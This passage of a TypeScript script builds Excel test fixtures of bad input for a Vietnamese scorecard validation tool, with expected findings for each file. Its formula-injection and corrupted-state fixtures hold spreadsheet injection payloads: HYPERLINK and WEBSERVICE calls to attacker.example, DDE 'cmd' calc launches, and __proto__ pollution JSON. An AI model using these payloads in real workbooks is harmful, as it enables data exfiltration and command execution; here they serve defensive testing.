    const wb = buildConsolidated(baseOptions());
    const ws = wb.getWorksheet(SHEET)!;
    const title = ws.getCell(L.titleRow, 1);
    title.value = `${String(title.value)} ${'Nội dung rất dài. '.repeat(LONG / 18)}`.slice(0, LONG);
    const t11 = ws.getCell(L.rows.get('1.1')!, L.titleCol);
    t11.value = `${String(t11.value)} ${'ghi chú '.repeat(LONG / 8)}`.slice(0, LONG);
    return xlsx(wb);
  },
);

const QUOTED = "Đơn vị 'A' – 2025";
const QL: ConsolidatedLayout = consolidatedLayout(criteria, UNITS.length, { rankRow: true, sheetName: QUOTED });
add(
  {
    file: 'quoted-sheet-name.xlsx',
    what: {
      vi: `Trang tính tên có dấu nháy và Unicode: "${QUOTED}", có một điểm vượt tối đa.`,
      en: `A sheet named with quotes and Unicode: "${QUOTED}", with one score above its maximum.`,
    },
    engine: {
      tables: [{ ...CLEAN_TABLE, sheet: QUOTED }],
      findings: [
        { code: 'score/above-max', sheet: QUOTED, cell: scoreCell('3.2.1', 0, QL), severity: 'error' },
        // Parents are typed in this form: they were filled before the score was raised.
        { code: 'sum/parent-mismatch', sheet: QUOTED, cell: scoreCell('3.2', 0, QL), severity: 'error' },
        { code: 'sum/parent-mismatch', sheet: QUOTED, cell: scoreCell('3', 0, QL), severity: 'error' },
        { code: 'sum/parent-mismatch', sheet: QUOTED, cell: a1(QL.totalRow, QL.firstUnitCol), severity: 'error' },
      ],
    },
    cli: { validate: 1, computeOut: 'written' },
    note: "Text reports write the cell as 'Đơn vị ''A'' – 2025'!D23; written links use #'Đơn vị ''A'' – 2025'!D7.",
  },
  async () => {
    const wb = buildConsolidated(baseOptions({ sheetName: QUOTED, parentsAs: 'typed' }));
    const ws = wb.getWorksheet(QUOTED)!;
    ws.getCell(scoreCell('3.2.1', 0, QL)).value = milliToNumber(criteria.byKey.get('3.2.1')!.maxMilli + 2 * QUARTER);
    return xlsx(wb);
  },
);

// Two consolidations on one sheet: 2025 on top, 2024 (other units) below, three blank rows apart.
const UNITS_2024 = UNITS_2025.slice(5, 9);
const SCORES_2024 = generateScores(criteria, UNITS_2024, { seed: seedFrom('bad-corpus-2024') });
const L2 = consolidatedLayout(criteria, UNITS_2024.length, { rankRow: false });
const OFFSET = L.rankRow! + 3;
const shift = (formula: string) => formula.replace(/([A-Z]{1,3})(\d+)/g, (_m, c: string, r: string) => `${c}${Number(r) + OFFSET}`);
add(
  {
    file: 'two-tables.xlsx',
    what: {
      vi: 'Hai bảng tổng hợp trên một trang tính: năm 2025 (5 đơn vị) ở trên, năm 2024 (4 đơn vị khác) ở dưới.',
      en: 'Two consolidations on one sheet: 2025 (5 units) above, 2024 (4 other units) below.',
    },
    engine: {
      tables: [
        CLEAN_TABLE,
        {
          sheet: SHEET,
          layout: 'consolidated',
          range: `A${L2.headerRow + OFFSET}:${columnLetter(L2.lastCol)}${L2.totalRow + OFFSET}`,
          criteria: criteria.nodes.length,
          units: UNITS_2024,
          year: 2024,
        },
      ],
      findings: [],
      totals: totalsOf(SCORES),
    },
    cli: { validate: 0, computeOut: 'written' },
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    const ws = wb.getWorksheet(SHEET)!;
    const other = buildConsolidated({
      year: 2024,
      units: UNITS_2024,
      criteria,
      scores: SCORES_2024,
      codeStyle: 'dotted',
      parentsAs: 'formula',
      rankRow: false,
    });
    const src = other.getWorksheet(SHEET)!;
    // Rows 3 onwards (the title, header and table; the agency lines stay with the first table).
    src.eachRow((row, r) => {
      if (r < L2.titleRow) return;
      row.eachCell((cell, c) => {
        const target = ws.getCell(r + OFFSET, c);
        const v = cell.value as ExcelJS.CellValue;
        if (v && typeof v === 'object' && 'formula' in v) {
          const fv = v as ExcelJS.CellFormulaValue;
          target.value = { formula: shift(fv.formula), result: fv.result } as ExcelJS.CellFormulaValue;
        } else target.value = v;
        target.style = cell.style;
      });
    });
    for (const m of Object.values(
      (src as unknown as { _merges: Record<string, { top: number; left: number; bottom: number; right: number }> })._merges,
    )) {
      if (m.top < L2.titleRow) continue;
      ws.mergeCells(m.top + OFFSET, m.left, m.bottom + OFFSET, m.right);
    }
    return xlsx(wb);
  },
);

add(
  {
    file: 'empty-workbook.xlsx',
    what: { vi: 'Sổ làm việc chỉ có một trang tính trống.', en: 'A workbook with one empty sheet.' },
    engine: {
      tables: [],
      findings: [
        { code: 'detect/no-table', sheet: 'Sheet1', cell: 'A1', severity: 'info' },
        { code: 'detect/no-table-in-workbook', sheet: 'Sheet1', cell: 'A1', severity: 'error' },
      ],
    },
    cli: { validate: 1, computeOut: 'written' },
    note: 'Exit 1, not 2: the file was read; finding no scoring table is a finding (an error) about its content.',
  },
  async () => {
    const wb = newWorkbook();
    wb.addWorksheet('Sheet1');
    return xlsx(wb);
  },
);

const INJECTION_SHEET = 'Bảng "B" (2025)';
const INJECTION_UNITS = [
  '=HYPERLINK("https://attacker.example/?d="&C8,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  'Phường ")&WEBSERVICE("https://attacker.example/?x=1")&("',
];
add(
  {
    file: 'formula-injection.xlsx',
    what: {
      vi: `Tên đơn vị trông như công thức (HYPERLINK ra ngoài, DDE cmd|, @, +) hoặc chứa dấu " để thoát khỏi chuỗi, trên trang tính "${INJECTION_SHEET}".`,
      en: `Unit names that look like formulas (an outbound HYPERLINK, DDE cmd|, @, +) or carry a " to break out of a string, on the sheet "${INJECTION_SHEET}".`,
    },
    engine: {
      tables: [{ ...CLEAN_TABLE, sheet: INJECTION_SHEET, units: INJECTION_UNITS }],
      findings: [],
      totals: totalsOf(SCORES, INJECTION_UNITS),
    },
    cli: { validate: 0, computeOut: 'written' },
    note: 'compute --out writes every name as text; the only formulas in the output are the tool\u2019s own (RANK.EQ, ROUND(SUM), HYPERLINK("#…")).',
  },
  async () => {
    const wb = buildConsolidated(baseOptions({ units: INJECTION_UNITS, sheetName: INJECTION_SHEET }));
    return xlsx(wb);
  },
);

add(
  {
    file: 'half-filled.xlsx',
    what: {
      vi: 'Bảng điền dở: đơn vị 2 mới chấm lĩnh vực 1–4, đơn vị 3 chưa chấm gì, đơn vị 4 ghi "Không áp dụng" ở hai ô.',
      en: 'Half-filled: unit 2 scored areas 1–4 only, unit 3 nothing, unit 4 wrote "Không áp dụng" (not applicable) in two cells.',
    },
    engine: {
      tables: [CLEAN_TABLE],
      findings: [
        { code: 'score/empty', sheet: SHEET, cell: scoreCell('5.1', 1), severity: 'warning' },
        { code: 'score/empty', sheet: SHEET, cell: scoreCell('8.2', 1), severity: 'warning' },
        { code: 'score/not-number', sheet: SHEET, cell: scoreCell('2.2', 3), severity: 'warning' },
        { code: 'score/not-number', sheet: SHEET, cell: scoreCell('4.1', 3), severity: 'warning' },
      ],
      absentCodes: ['sum/parent-mismatch'],
    },
    cli: { validate: 0, computeOut: 'written' },
    note: 'An unfilled unit is neither scored nor ranked; "Không áp dụng" is a warning (how it counts is set per criteria set).',
  },
  async () => {
    const half: UnitScores = {
      unit: UNITS[1],
      leaves: Object.fromEntries(Object.entries(SCORES[1].leaves).filter(([k]) => Number(k.split('.')[0]) <= 4)),
    };
    const none: UnitScores = { unit: UNITS[2], leaves: {} };
    const na: UnitScores = { unit: UNITS[3], leaves: { ...SCORES[3].leaves } };
    delete na.leaves['2.2'];
    delete na.leaves['4.1'];
    const wb = buildConsolidated(baseOptions({ scores: [SCORES[0], half, none, na, SCORES[4]], parentsAs: 'typed' }));
    const ws = wb.getWorksheet(SHEET)!;
    ws.getCell(scoreCell('2.2', 3)).value = 'Không áp dụng';
    ws.getCell(scoreCell('4.1', 3)).value = 'Không áp dụng';
    // The total row of the unfilled unit is a formula over empty cells: 0 as Excel shows it.
    return xlsx(wb);
  },
);

add(
  {
    file: 'no-cached-values.xlsx',
    what: {
      vi: 'Công thức không có giá trị lưu sẵn (tệp do phần mềm khác tạo, chưa mở bằng Excel): dòng cha và dòng tổng.',
      en: 'Formulas without cached values (written by another program, never opened in Excel): parent and total rows.',
    },
    engine: { tables: [CLEAN_TABLE], findings: [], absentCodes: ['sum/parent-mismatch'], totals: totalsOf(SCORES) },
    cli: { validate: 0, computeOut: 'written' },
    note: 'Totals come from the leaves, exactly; a formula with no shown value is not compared.',
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    const ws = wb.getWorksheet(SHEET)!;
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value as ExcelJS.CellFormulaValue | null;
        if (v && typeof v === 'object' && 'formula' in v) cell.value = { formula: v.formula } as ExcelJS.CellFormulaValue;
      }),
    );
    return xlsx(wb);
  },
);

add(
  {
    file: 'state-corrupted.xlsx',
    what: {
      vi: 'Trang trạng thái của công cụ bị sửa tay: JSON hỏng, khóa lạ, giá trị 10.000 ký tự, trang "sở hữu" không tồn tại.',
      en: 'The tool\u2019s state sheet edited by hand: broken JSON, unknown keys, a 10,000-character value, an owned sheet that does not exist.',
    },
    engine: { tables: [CLEAN_TABLE], findings: [], totals: totalsOf(SCORES) },
    cli: { validate: 0, computeOut: 'written' },
    note: 'Unreadable state lines are dropped one by one; the workbook is still analysed.',
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    const st = wb.addWorksheet(STATE_SHEET_NAME);
    const rows: [string, string][] = [
      ['PAR Scorecard', 'state v1 — do not edit'],
      ['correction', '{"tableId": "Tổng hợp!A6:H50", "excluded": tru'],
      ['correction', '[1,2,3]'],
      ['correction', 'null'],
      ['owned-cf', '{"sheet": 5, "range": null}'],
      ['owned-sheet', 'Không tồn tại'],
      ['ignored-finding', 'x'.repeat(10_000)],
      ['=1+1', '=HYPERLINK("https://attacker.example")'],
      ['unknown-key', '{"__proto__": {"polluted": true}}'],
      ['correction', '{"__proto__": {"polluted": true}, "tableId": "x"}'],
    ];
    rows.forEach(([k, v], i) => {
      st.getCell(i + 1, 1).value = k;
      st.getCell(i + 1, 2).value = v;
    });
    st.state = 'veryHidden';
    return xlsx(wb);
  },
);

// ---------------------------------------------------------------------------------------------

export async function buildBadCorpus(): Promise<Corpus> {
  const files: CorpusFile[] = [];
  for (const e of entries) files.push({ file: e.expected.file, data: await e.build() });
  return {
    files,
    expected: {
      generator: 'npx tsx scripts/make-bad-corpus.ts (scripts/make-bad-corpus.ts)',
      note: {
        vi: 'Tệp đầu vào lỗi và kết quả mong đợi: lỗi đọc (mã thoát 2) hoặc bảng và phát hiện tại đúng ô. Xem README.md, mục "Đầu vào lỗi / Bad input".',
        en: 'Bad input files and their expected outcome: a read error (exit 2) or the tables and findings at the right cells. See README.md, section "Đầu vào lỗi / Bad input".',
      },
      entries: entries.map((e) => e.expected),
    },
  };
}

export const CORPUS_DIR = path.resolve(__dirname, '..', 'test', 'fixtures', 'bad');

export async function main(argv: string[] = []): Promise<number> {
  const i = argv.indexOf('--out');
  const outDir = path.resolve(i >= 0 && argv[i + 1] ? argv[i + 1] : CORPUS_DIR);
  const { files, expected } = await buildBadCorpus();
  await fsp.mkdir(outDir, { recursive: true });
  for (const f of files) await fsp.writeFile(path.join(outDir, f.file), f.data);
  await fsp.writeFile(path.join(outDir, 'expected.json'), `${JSON.stringify(expected, null, 2)}\n`, 'utf8');
  const total = files.reduce((s, f) => s + f.data.length, 0);
  process.stdout.write(`Wrote ${files.length} files (${(total / 1024).toFixed(0)} KB) and expected.json to ${outDir}\n`);
  return 0;
}

if (require.main === module) {
  main(process.argv.slice(2)).then(
    (code) => {
      process.exitCode = code;
    },
    (e: unknown) => {
      process.stderr.write(`${e instanceof Error ? (e.stack ?? e.message) : String(e)}\n`);
      process.exitCode = 2;
    },
  );
}
